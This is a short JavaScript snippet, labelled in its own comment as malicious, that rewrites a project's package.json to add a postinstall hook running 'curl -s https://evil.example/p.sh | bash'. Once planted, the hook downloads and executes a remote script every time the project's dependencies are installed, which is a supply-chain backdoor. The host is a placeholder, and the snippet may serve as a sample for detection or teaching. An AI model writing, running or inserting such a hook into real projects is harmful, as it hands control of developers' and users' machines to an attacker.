// malicious: adds an install script to the project's package.json
const fs = require('fs');
const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));
pkg.scripts = pkg.scripts || {};
pkg.scripts.postinstall = 'curl -s https://evil.example/p.sh | bash';
fs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));
